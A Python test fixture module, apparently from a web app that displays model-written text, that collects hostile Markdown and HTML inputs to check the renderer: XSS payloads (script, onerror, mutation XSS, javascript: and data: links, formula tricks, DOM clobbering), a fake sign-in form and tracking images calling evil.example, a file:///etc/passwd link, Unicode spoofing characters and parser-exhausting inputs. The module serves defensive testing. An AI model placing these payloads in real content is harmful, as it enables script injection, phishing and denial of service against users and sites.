r"""Texts that attack whoever reads them, as a model could write them: the corpus of every page's tests.

Each entry is a name and a Markdown text. None may run a script, fetch an address, leave its panel, submit a
form, take an id, or slow the server down; a page that shows model text shows all of them.
"""

OUTSIDE = "evil.example"
"""The host every payload that phones home calls; no request may ever name it."""

MARKUP: dict[str, str] = {
    "script": "<script>window.__x=1</script>",
    "script in a list": "- a\n- <script>window.__x=1</script>\n",
    "image onerror": "<img src=x onerror='window.__x=1'>",
    "svg onload": "<svg onload=window.__x=1><image href='http://evil.example/s.png'/></svg>",
    "iframe": "<iframe src='javascript:parent.__x=1'></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
    "style element": "<style>body{display:none}</style>text",
    "link element": "<link rel=stylesheet href=http://evil.example/a.css>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "base": "<base href='http://evil.example/'>[a](b)",
    "object and embed": "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
    "form": "<form action=http://evil.example/f method=post><input name=p><button>Sign in</button></form>",
    "button with the page's id": "<button id=btn_a onclick='window.__x=1'>A</button>",
    "clobbered names": "<a id=evenhand></a><form name=evenhand id=ev-compare><input name=innerHTML></form>",
    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Session expired</div>",
    "css background": "<p style=\"background:url('http://evil.example/bg.png')\">x</p>",
    "video and audio": "<video src=http://evil.example/v autoplay></video><audio src=http://evil.example/a>",
    "picture": "<picture><source srcset=http://evil.example/p.png><img src=x></picture>",
    "table background": "<table background=http://evil.example/t.png><tr><td>x</td></tr></table>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.__x=1>"></noscript>',
    "template": "<template><script>window.__x=1</script></template><slot name=x></slot>",
    "mglyph mutation": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__x=1&gt;">'
    ),
    "annotation-xml": "<math><annotation-xml encoding='text/html'><script>window.__x=1</script></annotation-xml>",
    "comment mutation": "<!--><img src=x onerror=window.__x=1>-->",
    "cdata": "<![CDATA[<img src=x onerror=window.__x=1>]]>",
    "closing tags": "</div></section></details></body></html><h1>Outside</h1>",
    "details ontoggle": "<details open ontoggle=window.__x=1><summary>x</summary></details>",
    "custom element": "<x-panel onclick=window.__x=1 tabindex=0 autofocus onfocus=window.__x=1>x</x-panel>",
    "marquee": "<marquee onstart=window.__x=1>x</marquee><dialog open>x</dialog>",
    "image": "![a](http://evil.example/pixel.png)",
    "image that signs out": "![x](/logout) ![y](//evil.example/y.png)",
    "image by reference": "![a][r]\n\n[r]: http://evil.example/ref.png 'title'\n",
    "image in a link": "[![a](http://evil.example/i.png)](https://evil.example/)",
    "image with a breaking alt": '![" onerror="window.__x=1](http://evil.example/q.png)',
    "javascript link": "[a](javascript:window.__x=1) <javascript:window.__x=1>",
    "obfuscated javascript link": "[a](JaVaScRiPt&colon;window.__x=1) [b](java&#10;script:window.__x=1)",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194PTE8L3NjcmlwdD4=)",
    "vbscript and file links": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x)",
    "relative links": "[a](/logout) [b](//evil.example/) [c](?x=1) [d](#btn_a)",
    "link that breaks out": '[a](https://evil.example/"onmouseover="window.__x=1) [b](<https://e.x/ "t>)',
    "link title": "[a](https://evil.example/ '\" onmouseover=\"window.__x=1')",
    "mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=window.__x=1>"]; click A "javascript:window.__x=1"\n```',
    "fence information": '```"><img/src=x/onerror=window.__x=1>\ncode\n```',
    "html code": "```html\n<script>window.__x=1</script>\n```\n\n`<script>window.__x=1</script>`",
    "formula link": r"$\href{javascript:window.__x=1}{x}$ $\url{http://evil.example}$",
    "formula text": r"$\text{<img src=x onerror=window.__x=1>}$ $$\text{</mtext></math><script>window.__x=1}$$",
    "formula style": r"$\style{position:fixed;inset:0}{x}$ $\class{vote}{x}$ $\cssId{btn_a}{x}$",
    "formula image": r"$\includegraphics{http://evil.example/g.png}$",
    "formula entity": r"$\text{&lt;script&gt;window.__x=1&lt;/script&gt;}$",
    "formula colours": r"$\color{red;background:url(http://evil.example/c)}{x}$ $\textcolor{white}{hidden}$",
    "formula that leaves its place": r"$\hspace{-9999px}\raise{9999px}{x}\rule{9999em}{9999em}$",
    "table cell": "| a |\n|---|\n| <img src=x onerror=window.__x=1> |\n",
    "reordered text": "left \u202e\u2066better is\u2069 \u202dright\u202c \u200f",
    "reordered by entity": "left &#x202e;better &#8238;is right",
    "hidden text": "vo\u200bte \u2060left\ufeff \u00ad \U000e0041\U000e007f",
    "control characters": "a\x00b\x01c\x08d\x1b[31me\x7ff\x85g",
    "lone surrogate": "a\ud800b",
}
"""Small payloads: markup, links, media, formulas, and characters that lie."""

_SIZE = 40_000


def _fill(unit: str, size: int = _SIZE) -> str:
    """Repeat a unit up to a size."""
    return (unit * (size // len(unit) + 1))[:size]


BOMBS: dict[str, str] = {
    "backticks": "`" * 10_000,
    "backtick runs": " ".join("`" * length for length in range(1, 280)),
    "brackets": _fill("["),
    "brackets and stars": "[" * 20_000 + "*" * 20_000,
    "image openings": _fill("!["),
    "nested link": _fill("[a](") + _fill(")"),
    "nested quotes": _fill("> "),
    "nested lists": "".join("  " * depth + "- a\n" for depth in range(280)),
    "stars": _fill("*a _b **c "),
    "dollars": _fill("$"),
    "open formulas": _fill("$$a\n"),
    "open bracket formulas": _fill("- \\[ x\n"),
    "many formulas": _fill("$x$ "),
    "deep formula": "$" + "{" * 900 + "}" * 900 + "$",
    "formula macros": r"$\def\a{xx}\def\b{\a\a}\def\c{\b\b}\def\d{\c\c}\d\d$",
    "self-referring macro": r"$\def\a{\a\a}\a$",
    "wide table": "|" + "a|" * 9_000 + "\n|" + "-|" * 9_000 + "\n",
    "table of short rows": "|" + "a|" * 50 + "\n|" + "-|" * 50 + "\n" + "|\n" * 19_000,
    "entities": _fill("&amp;&#"),
    "angle brackets": _fill("<a "),
    "references": _fill("[a]: b\n"),
    "code on one line": "```c\n" + "/" * 39_000 + "\n```",
    "code of empty lines": "```java\n" + "\n" * 39_000 + "\n```",
    "code of words": "```java\n" + ("a " * 99 + "\n") * 50 + "```",
    "open code": "```python\n" + _fill('"""a\n'),
    "megabyte": _fill("An ordinary sentence with $x$ and **bold**.\n\n", 1_000_000),
    "megabyte line": "a" * 1_000_000,
}
"""Texts that are slow or deep to parse, or merely huge."""

PAYLOADS: dict[str, str] = {**MARKUP, **BOMBS}
"""Everything."""
